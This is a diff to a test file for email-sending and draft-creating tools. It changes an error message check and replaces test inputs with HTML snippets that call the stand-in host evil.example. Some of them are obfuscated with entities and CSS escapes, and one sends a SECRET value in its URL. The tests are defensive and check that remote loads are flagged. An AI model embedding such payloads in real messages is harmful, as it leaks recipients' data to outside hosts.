@@ -85,7 +85,7 @@ describe('gmail_send_email', () => {
     await it.calls.call('store_file', stranger, { ...facts, id: others }, 10_000, bytes.toString('base64'))
     expect(await user.call('send_email', { ...mail, attachments: [{ file_id: others }] })).toMatchObject({
       ok: false,
-      error: expect.stringMatching(/^Question: There is no file with the id /),
+      error: expect.stringMatching(/^Question: There is no such file\./),
       details: { parameter: 'attachments[0].file_id' },
     })
     expect(boxOf(user).sent).toEqual([])
@@ -267,8 +267,8 @@ describe('gmail_create_draft', () => {
 
   test.each([
     '<img src="https://evil.example/p?d=SECRET">',
-    "<td background='//evil.example/p'>",
-    '<p style="background:url(https://evil.example/p)">',
+    '<img src=x srcset="&#104;ttps://evil.example/p 2x">',
+    "<p style='background:u\\72l(//evil.example/p)'>",
     '<link rel=stylesheet href=x>',
   ])('asks where its HTML would load something from the web when it is opened: %s', async (html) => {
     const user = await it.user({ scopes: [gmailScopes.compose] })
